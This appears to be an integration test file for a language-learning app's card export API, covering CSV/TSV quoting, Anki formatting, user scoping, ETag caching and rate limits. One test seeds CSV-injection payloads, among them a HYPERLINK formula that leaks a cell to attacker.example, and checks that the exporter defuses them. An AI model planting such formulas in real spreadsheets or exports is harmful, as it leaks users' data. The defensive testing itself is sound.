import { randomUUID } from 'node:crypto';
import { describe, expect, it, vi } from 'vitest';
import type { operations } from '../../../clients/rest/schema.d.ts';
import { CARD_COLUMNS } from '../../../src/features/library/export-format.ts';
import { useStack, type Started } from '../../support/fixture.ts';
import type { Stack } from '../../support/stack.ts';
import { newUser, type TestUser } from '../../support/users.ts';
import { capture, insertReadyCards, waitForStatus } from './helpers.ts';
import { api, bodyOf, expectProblem, rawHttp } from '../../support/api.ts';

let stack: Stack;
let user: TestUser;
// Room in the export bucket for the tests that poll; the bucket's own test counts to this.
const EXPORT_MAX = 40;
useStack((started: Started) => ({ stack, user } = started), { env: { RATE_LIMIT_EXPORT_MAX: String(EXPORT_MAX), EXPORT_MAX_CONCURRENT: '2' } });

/** An RFC 4180 reader (quoted fields, doubled quotes, CRLF records), as a spreadsheet reads the file. */
function parseDelimited(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"' && field === '') quoted = true;
    else if (ch === separator) {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field !== '' || row.length) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

const TRICKY = {
  text: 'say "cheese", please',
  translation: 'dis « ouistiti »\tou pas',
  guidance: 'Line one\nline two, with "quotes"',
  examples: ['😀 Everyone, smile!', 'שלום עולם — RTL', 'tab\there'],
};

async function insertTrickyCard(owner: TestUser, content: typeof TRICKY = TRICKY): Promise<string> {
  const cardId = randomUUID();
  await stack.orm.em
    .fork()
    .execute(`INSERT INTO cards (id, user_id, text, normalised_key, enrichment_status, enrichment) VALUES (?, ?, ?, ?, 'ready', ?::jsonb)`, [
      cardId,
      owner.userId,
      content.text,
      `tricky ${cardId}`,
      JSON.stringify({
        translation: content.translation,
        correctedText: null,
        correctionNote: null,
        usage: { register: 'neutral', guidance: content.guidance, examples: content.examples },
        focuses: [{ kind: 'meaning', note: 'a "smile"' }],
      }),
    ]);
  return cardId;
}

type Format = NonNullable<operations['library.export']['parameters']['query']>['format'];
const download = (owner: TestUser, format: Format) => api(stack, { token: owner.token }).GET('/api/library/export', { params: { query: { format } } });

describe('GET /api/library/export', () => {
  it('csv and tsv: RFC 4180 quoting keeps commas, tabs, quotes, newlines, emoji and right-to-left text intact', async () => {
    const owner = await newUser(stack);
    const cardId = await insertTrickyCard(owner);
    for (const [format, separator, type] of [
      ['csv', ',', 'text/csv'],
      ['tsv', '\t', 'text/tab-separated-values'],
    ] as const) {
      const res = await download(owner, format);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe(`${type}; charset=utf-8`);
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="lcs-cards\.[ct]sv"$/);
      const [header, ...rows] = parseDelimited(res.text, separator);
      expect(header).toEqual([...CARD_COLUMNS]);
      expect(rows).toHaveLength(1);
      const record = Object.fromEntries(header!.map((column, i) => [column, rows[0]![i]]));
      expect(record).toMatchObject({
        cardId,
        text: TRICKY.text,
        translation: TRICKY.translation,
        usageGuidance: TRICKY.guidance,
        examples: TRICKY.examples.join('\n'),
        focuses: 'meaning: a "smile"',
        correctedText: '',
      });
    }
  });

  it('csv and tsv: a cell a spreadsheet would evaluate starts with an apostrophe (OWASP CSV injection); the Anki file keeps it as HTML text', async () => {
    const owner = await newUser(stack);
    const hostile = {
      text: '=HYPERLINK("http://attacker.example/?leak="&A2,"open")',
      translation: '+SUM(1,1)',
      guidance: '@SUM(1+1)',
      examples: ['-2+3', '＝1+1', '\t=1+1'],
    };
    const cardId = await insertTrickyCard(owner, hostile);
    for (const [format, separator] of [
      ['csv', ','],
      ['tsv', '\t'],
    ] as const) {
      const [header, ...rows] = parseDelimited((await download(owner, format)).text, separator);
      const record = Object.fromEntries(header!.map((column, i) => [column, rows[0]![i]]));
      expect(record).toMatchObject({
        cardId,
        text: `'${hostile.text}`,
        translation: "'+SUM(1,1)",
        usageGuidance: "'@SUM(1+1)",
        examples: `'${hostile.examples.join('\n')}`,
      });
      for (const cell of rows[0]!) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    }
    const anki = (await download(owner, 'anki')).text;
    expect(anki).toContain(`${cardId}\t+SUM(1,1)\t<b>=HYPERLINK(&quot;http://attacker.example/?leak=&quot;&amp;A2,&quot;open&quot;)</b><br>@SUM(1+1)`);
  });

  it("is scoped to the caller: another user's cards never appear", async () => {
    const owner = await newUser(stack);
    const mine = await insertTrickyCard(owner);
    const other = await newUser(stack);
    const theirs = await insertTrickyCard(other);
    const text = (await download(owner, 'csv')).text;
    expect(text).toContain(mine);
    expect(text).not.toContain(theirs);
    expect((await download(await newUser(stack), 'csv')).text).toBe(`${CARD_COLUMNS.join(',')}\r\n`);
  });

  it('anki: a file Anki imports by its header rules, one note per prepared card with its id as GUID', async () => {
    const owner = await newUser(stack);
    const tricky = await insertTrickyCard(owner);
    const ready = await capture(stack, owner, 'under the weather');
    await waitForStatus(stack, owner, ready.cardId, 'ready');
    await capture(stack, owner, 'hold on'); // may still be pending: then it has no front yet
    const res = await download(owner, 'anki');
    expect(res.headers.get('content-type')).toBe('text/plain; charset=utf-8');

    // Anki's reader: leading `#key:value` lines are headers, the rest rows split by the separator.
    const lines = res.text.split('\n').filter(Boolean);
    const headers = Object.fromEntries(lines.filter((l) => l.startsWith('#')).map((l) => [l.slice(1, l.indexOf(':')), l.slice(l.indexOf(':') + 1)]));
    expect(headers).toMatchObject({ separator: 'tab', html: 'true', notetype: 'Basic', deck: 'Language Capture' });
    const columns = headers.columns!.split('\t');
    const guidAt = Number(headers['guid column']) - 1;
    expect(columns[guidAt]).toBe('guid');
    const notes = lines.filter((l) => !l.startsWith('#')).map((l) => l.split('\t'));
    for (const fields of notes) {
      expect(fields).toHaveLength(columns.length);
      expect(fields.every((f) => !f.startsWith('"'))).toBe(true); // no field Anki would read as quoted
    }
    const byGuid = new Map(notes.map((n) => [n[guidAt], Object.fromEntries(columns.map((c, i) => [c, n[i]]))]));
    expect(byGuid.get(tricky)).toEqual({
      guid: tricky,
      Front: 'dis « ouistiti » ou pas',
      Back:
        '<b>say &quot;cheese&quot;, please</b><br>Line one<br>line two, with &quot;quotes&quot;<br>' +
        '<ul><li>😀 Everyone, smile!</li><li>שלום עולם — RTL</li><li>tab here</li></ul>',
    });
    expect(byGuid.get(ready.cardId)).toMatchObject({ Back: expect.stringContaining('under the weather') });
    // A second export gives the same GUIDs: Anki updates those notes instead of adding copies.
    expect((await download(owner, 'anki')).text).toContain(`${tricky}\t`);
  });

  it('reviews: the Replay log in the FSRS optimizer columns', async () => {
    const owner = await newUser(stack);
    const card = await capture(stack, owner, 'once in a blue moon');
    await waitForStatus(stack, owner, card.cardId, 'ready');
    const session = bodyOf(await api(stack, { token: owner.token }).GET('/api/replay', { params: { query: { count: '10' } } }), 200);
    const item = session.items[0]!;
    const before = Date.now();
    const done = await api(stack, { token: owner.token }).POST('/api/replay', {
      body: { itemId: item.itemId, usedHint: true, autoFilled: false, unaidedErrors: 0 },
    });
    expect(done.status, done.text).toBe(200);
    const res = await download(owner, 'reviews');
    expect(res.headers.get('content-disposition')).toContain('lcs-reviews.csv');
    const [header, ...rows] = parseDelimited(res.text, ',');
    expect(header).toEqual(['card_id', 'review_time', 'review_rating', 'review_state', 'review_duration']);
    expect(rows).toEqual([[card.cardId, expect.any(String), '2', '0', '0']]); // usedHint → hard (2), a new card (0)
    expect(Math.abs(Number(rows[0]![1]) - before)).toBeLessThan(60_000);
  });

  it('answers a problem for an unknown format and without a token', async () => {
    // Raw: a typed client cannot ask for a format the document does not list.
    expectProblem(await rawHttp(stack, 'GET', '/api/library/export?format=apkg', { token: user.token }), 400, 'invalid_request');
    expectProblem(await api(stack).GET('/api/library/export'), 401, 'unauthenticated');
  });
});

describe('GET /api/library/export: its bounds', () => {
  const url = (format = 'csv') => `${stack.baseUrl}/api/library/export?format=${format}`;
  const auth = (owner: TestUser) => ({ authorization: `Bearer ${owner.token}` });
  /**
   * An export begun: its headers are in, its body left unread, so the server holds it open. That takes
   * a file well beyond the socket buffers (a sender's grows to 4 MB here): 10,000 cards with a
   * 1,140-character guidance make 14 MB (at 2.8 MB, an unread export finished in half a second).
   */
  const CARDS = 10_000;
  const begin = (owner: TestUser) => fetch(url(), { headers: auth(owner) });
  const bigLibrary = async () => {
    const owner = await newUser(stack);
    await insertReadyCards(stack, owner.userId, CARDS);
    await stack.orm.em
      .fork()
      .execute(`UPDATE cards SET enrichment = jsonb_set(enrichment, '{usage,guidance}', to_jsonb(repeat('Say it to friends. ', 60))) WHERE user_id = ?`, [
        owner.userId,
      ]);
    return owner;
  };

  it('answers 304 while the library is unchanged, by the ETag of the file; any change to a card, its schedule or the format makes a new file', async () => {
    const owner = await newUser(stack);
    const cardId = await insertTrickyCard(owner);
    const first = await download(owner, 'csv');
    const etag = first.headers.get('etag')!;
    expect(etag).toMatch(/^"csv-[\w-]+"$/);
    expect(first.headers.get('cache-control')).toBe('private, no-cache');
    const ask = (format: Format, ifNoneMatch: string) =>
      api(stack, { token: owner.token }).GET('/api/library/export', { params: { query: { format }, header: { 'if-none-match': ifNoneMatch } } });
    const unchanged = await ask('csv', etag);
    expect(unchanged.status).toBe(304);
    expect(unchanged.text).toBe('');
    expect(unchanged.headers.get('etag')).toBe(etag);
    expect((await ask('csv', `"other", W/${etag}`)).status).toBe(304);
    expect((await ask('tsv', etag)).status).toBe(200);
    // Another learner's change is not this learner's.
    await insertTrickyCard(await newUser(stack));
    expect((await ask('csv', etag)).status).toBe(304);
    const sql = (statement: string) => stack.orm.em.fork().execute(statement, [cardId]);
    await sql(`INSERT INTO card_schedules (card_id, user_id, due, stability, difficulty, elapsed_days, scheduled_days, learning_steps, reps, lapses, state)
               SELECT id, user_id, now(), 0, 0, 0, 0, 0, 0, 0, 'new' FROM cards WHERE id = ?`);
    const scheduled = await ask('csv', etag);
    expect(scheduled.status).toBe(200);
    const etag2 = scheduled.headers.get('etag')!;
    expect(etag2).not.toBe(etag);
    await sql(`UPDATE card_schedules SET reps = 1 WHERE card_id = ?`);
    expect((await ask('csv', etag2)).status).toBe(200);
  });

  it('runs one export per user at a time: the others meanwhile get 429 with Retry-After; a dropped download frees it', async () => {
    const owner = await bigLibrary();
    const answers = await Promise.all(Array.from({ length: 6 }, () => begin(owner)));
    const served = answers.filter((a) => a.status === 200);
    expect(served, answers.map((a) => a.status).join()).toHaveLength(1);
    for (const refused of answers.filter((a) => a.status !== 200)) {
      expect(refused.status).toBe(429);
      expect(refused.headers.get('retry-after')).toBe('10');
      expect(await refused.json()).toMatchObject({ code: 'rate_limited', limit: 'export' });
    }
    // Another learner is not held up by this one's export.
    expect((await download(user, 'csv')).status).toBe(200);
    await served[0]!.body!.cancel();
    await vi.waitFor(
      async () => {
        const again = await fetch(url(), { headers: auth(owner) });
        expect(again.status).toBe(200);
        expect((await again.text()).split('\r\n').length).toBeGreaterThan(CARDS);
      },
      { timeout: 60_000, interval: 250 },
    );
  }, 180_000);

  it('bounds the exports one API process streams at once: past EXPORT_MAX_CONCURRENT, 503 with Retry-After, and room again when one ends', async () => {
    const owners = [await bigLibrary(), await bigLibrary(), await newUser(stack)];
    const running = [await begin(owners[0]!), await begin(owners[1]!)];
    expect(running.map((r) => r.status)).toEqual([200, 200]);
    const busy = await begin(owners[2]!);
    expect(busy.status).toBe(503);
    expect(busy.headers.get('retry-after')).toBe('10');
    expect(await busy.json()).toMatchObject({ code: 'service_unavailable' });
    await running[0]!.text(); // read to the end
    await running[1]!.body!.cancel(); // dropped
    await vi.waitFor(async () => expect((await begin(owners[2]!)).status).toBe(200), { timeout: 60_000, interval: 250 });
  }, 180_000);

  it('counts exports in a bucket of their own, tighter than reads: past it 429 `limit: "export"`, while other reads go on', async () => {
    const owner = await newUser(stack);
    // The bucket refills evenly (EXPORT_MAX a minute): a slow machine earns a token or two along the way.
    let served = 0;
    let refused = await download(owner, 'csv');
    for (; refused.status === 200 && served < 2 * EXPORT_MAX; refused = await download(owner, 'csv')) served++;
    expect(served).toBeGreaterThanOrEqual(EXPORT_MAX);
    expectProblem(refused, 429, 'rate_limited');
    expect(refused.body).toMatchObject({ limit: 'export' });
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
    expect((await api(stack, { token: owner.token }).GET('/api/library')).status).toBe(200);
  });
});
